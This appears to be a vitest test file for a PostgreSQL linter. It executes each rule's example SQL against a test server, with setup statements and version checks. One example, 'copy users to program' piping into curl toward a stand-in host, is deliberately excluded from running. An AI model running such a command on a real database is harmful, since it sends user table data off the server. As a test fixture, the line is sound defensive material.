import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { rules } from '../../src/rules/index.ts';
import type { Session, StatementOutcome } from '../../src/ports/database.ts';
import { scriptOf } from '../fakes/scripts.ts';
import { exampleSchema } from '../support/example-schema.ts';
import { startTestServer, type TestServer } from '../support/postgres.ts';

type Circumstances = {
  /** What has to be so before the example can run. */
  readonly before?: string | readonly string[];
  /** What a server without an optional part answers. */
  readonly orElse?: readonly string[];
  /** Why it is not run at all. */
  readonly notRun?: string;
};

const circumstances: Readonly<Record<string, Circumstances>> = {
  'drop index users_email': { before: 'create index users_email on users (email)' },
  'create view report as select 1': { before: 'drop view report' },
  'create table orders (net int, gross int generated always as (net * 2) stored)': {
    before: 'drop table orders',
  },
  'create table orders (net int, gross int generated always as (net * 2) virtual)': {
    before: 'drop table orders',
  },
  "alter table users alter column note set default ''": {
    before: 'alter table users add column note text',
  },
  "alter type priority add value 'urgent'; insert into tickets (priority) values ('urgent')": {
    orElse: ['55P04'],
  },
  'update users set age = 1 where id = $1': { orElse: ['08P01'] },
  'create extension pgcrypto': { orElse: ['0A000', '58P01'] },
  'create table scratch (id uuid default uuid_generate_v4(), other uuid default public.gen_random_uuid())':
    {
      before: ['uuid_generate_v4', 'gen_random_uuid'].map(
        (name) =>
          `create function public.${name}() returns uuid language sql as 'select null::uuid'`,
      ),
    },
  'create policy own on users for select to app using (auth.uid() = id)': {
    before: [
      'create schema auth',
      `create function auth.uid() returns bigint language sql as 'select 1::bigint'`,
    ],
  },
  'create table scratch (at timestamptz); create trigger touch before update on scratch for each row execute function touch()':
    {
      before: `create function touch() returns trigger language plpgsql as 'begin return new; end'`,
    },
  "copy users to program 'curl -T - https://example.test'": {
    notRun: 'It would start a program that reaches the network.',
  },
};

const invalid = rules.flatMap((rule) => rule.invalid.map((example) => ({ rule, ...example })));
const valid = rules.flatMap((rule) => rule.valid.map((sql) => ({ rule, sql })));
const isUnparsed = ({ rule }: { readonly rule: { readonly id: string } }) => rule.id === 'unparsed';
const isRun = ({ sql }: { readonly sql: string }) => circumstances[sql]?.notRun === undefined;

let server: TestServer;
let count = 0;

beforeAll(async () => {
  server = await startTestServer();
  await server.createDatabase('examples');
  await using session = await server.connect('examples');
  for (const statement of exampleSchema) await session.query(statement);
});

afterAll(async () => {
  await server[Symbol.asyncDispose]();
});

/** These refuse a transaction, or end it. */
const endsTransactions = /\bconcurrently\b|^(?:vacuum|alter system|begin|commit)\b/;

/** Every statement of the example, leaving nothing behind; the first failure ends it. */
async function run(sql: string): Promise<StatementOutcome> {
  if (endsTransactions.test(sql)) return runInCopy(sql);
  await using session = await server.connect('examples');
  await session.query('begin');
  return await runOn(session, sql);
}

async function runInCopy(sql: string): Promise<StatementOutcome> {
  count += 1;
  const name = `example_${count}`;
  await using owner = await server.connect();
  await owner.query(`create database ${name} template examples`);
  await using session = await server.connect(name);
  return await runOn(session, sql);
}

async function runOn(session: Session, sql: string): Promise<StatementOutcome> {
  const { before } = circumstances[sql] ?? {};
  for (const statement of before === undefined ? [] : [before].flat())
    await session.query(statement);
  let outcome: StatementOutcome = { kind: 'done', durationMs: 0 };
  for (const { text } of (await scriptOf(sql)).statements) {
    outcome = await session.execute(text);
    if (outcome.kind === 'failed') return outcome;
  }
  return outcome;
}

function inWords(sql: string, outcome: StatementOutcome): string {
  if (outcome.kind === 'done') return 'done';
  const { orElse = [] } = circumstances[sql] ?? {};
  return orElse.includes(outcome.sqlstate) ? 'done' : `${outcome.sqlstate}: ${outcome.message}`;
}

test.each(valid.filter(isRun))('PostgreSQL runs what $rule.id allows: $sql', async ({ sql }) => {
  const outcome = await run(sql);

  expect(inWords(sql, outcome)).toBe('done');
});

const known = invalid.filter((example) => example.postgres === undefined);

test.each(known.filter((example) => isRun(example) && !isUnparsed(example)))(
  'PostgreSQL runs what $rule.id finds: $sql',
  async ({ sql }) => {
    const outcome = await run(sql);

    expect(inWords(sql, outcome)).toBe('done');
  },
);

test.each(known.filter(isUnparsed))('PostgreSQL refuses to parse $sql', async ({ sql }) => {
  const outcome = await run(sql);

  expect(outcome).toMatchObject({ kind: 'failed', sqlstate: '42601' });
});

// That of the rule about majors that nobody measured names one that no server has yet.
const tooNew = invalid.filter(({ rule }) => rule.id !== 'unverified-major');

test.each(tooNew.filter(({ postgres }) => postgres !== undefined))(
  'PostgreSQL $postgres is too old for $sql, and a newer one is not',
  async ({ sql, postgres }) => {
    await using session = await server.connect();
    const major = Math.floor(session.serverVersion / 10_000);

    const outcome = await run(sql);

    // PostgreSQL 14 runs it, and takes what follows the digits for the name of the column.
    const isMisread = major === 14 && /\b0x/.test(sql);
    expect(outcome.kind).toBe(major <= (postgres ?? 0) && !isMisread ? 'failed' : 'done');
  },
);

describe('the circumstances', () => {
  test('speak of examples only', () => {
    const examples = new Set([...invalid, ...valid].map(({ sql }) => sql));

    expect(Object.keys(circumstances).filter((sql) => !examples.has(sql))).toEqual([]);
  });
});
